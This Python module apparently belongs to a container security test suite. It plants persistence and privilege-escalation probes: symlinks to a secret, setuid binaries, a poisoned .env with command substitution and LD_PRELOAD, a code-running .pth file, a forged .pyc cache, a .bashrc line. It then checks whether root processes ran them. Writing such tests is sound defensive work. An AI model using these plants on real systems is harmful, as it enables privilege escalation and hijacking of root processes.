"""What a node leaves behind for the next start: `plant` in the first, `harvest` in the second, `plant_link` before the third."""

import importlib.util
import marshal
import os
import shutil
import struct
import sys

from attack import Blocked, until

SITE = f"/data/.local/lib/python{sys.version_info.major}.{sys.version_info.minor}/site-packages"


def attempt(function):
    try:
        function()
    except OSError:
        pass


def write(path, words):
    with open(path, "w") as file:
        file.write(words)


def plant():
    """For the ownership walk: a link to root's file, a setuid program. For whoever reads .env: a command. For Python: a line that runs."""
    attempt(lambda: os.symlink("/state/secret", "/data/to-the-secret"))
    attempt(lambda: os.symlink("/state", "/data/to-the-state"))
    for bit, mode in (("setuid", 0o4755), ("setgid", 0o2755)):
        shutil.copy("/bin/true", f"/data/planted-{bit}")
        attempt(lambda bit=bit, mode=mode: os.chmod(f"/data/planted-{bit}", mode))
    poison = "POISON=$(id -u > /tmp/env-ran)\nLD_PRELOAD=/data/evil.so\n"
    for path in ("/data/.env", "/state/.env"):
        attempt(lambda path=path: write(path, poison))
    os.makedirs(SITE, exist_ok=True)
    line = "import os; os.path.exists(f'/tmp/pth-ran-{os.getuid()}') or open(f'/tmp/pth-ran-{os.getuid()}', 'w').close()\n"
    write(SITE + "/planted.pth", line)
    # HOME of root's, too, where the image says so.
    write("/data/.bashrc", "touch /tmp/bashrc-ran-$(id -u)\n")
    attempt(lambda: write("/state/approvals.json", "{}"))


def plant_compiled():
    """In memory, where PYTHONPYCACHEPREFIX leads: Python compares the source's size and time, which everybody can read."""
    source = importlib.util.find_spec("wave").origin
    seen = os.stat(source)
    code = compile("import os; open(f'/tmp/pyc-ran-{os.getuid()}', 'w').close()", source, "exec")
    compiled = importlib.util.cache_from_source(source)
    os.makedirs(os.path.dirname(compiled), exist_ok=True)
    with open(compiled, "wb") as file:
        file.write(importlib.util.MAGIC_NUMBER + struct.pack("<3I", 0, int(seen.st_mtime), seen.st_size) + marshal.dumps(code))
    write("/tmp/planted", "")


def harvest():
    """What came of it, as far as it is seen from inside; the owners are looked at by the test."""
    def env():
        with open("/tmp/env-ran") as file:
            if int(file.read()) != 0:
                raise Blocked("it ran as the app's user")

    def environment():
        if os.environ.get("LD_PRELOAD") or os.environ.get("POISON") is not None:
            return
        raise Blocked("nothing of it is in the environment")

    def pth():
        os.stat(f"/tmp/pth-ran-{os.getuid()}")

    def as_root(what):
        # The test's own `docker exec CONTAINER …`, as root, which waits for the plant.
        def ran():
            if not until(lambda: os.path.exists(f"/tmp/{what}-ran-0"), 30):
                raise Blocked("no program of root's ran it")

        return ran

    def state():
        os.stat("/state/approvals.json")

    return [
        ("poison-env-to-run-as-root", env),
        ("poison-env-to-set-variables", environment),
        ("poison-python-of-the-app", pth),
        ("poison-python-of-docker-exec", as_root("pth")),
        ("poison-compiled-python-of-docker-exec", as_root("pyc")),
        ("poison-the-shell-of-docker-exec", as_root("bashrc")),
        ("poison-the-state", state),
    ]


def plant_link():
    """A directory that the start makes and gives away, by way of a link."""
    shutil.rmtree("/data/models", ignore_errors=True)
    if os.path.lexists("/data/models"):
        os.rename("/data/models", "/data/was-models")
    os.symlink("/state", "/data/models")
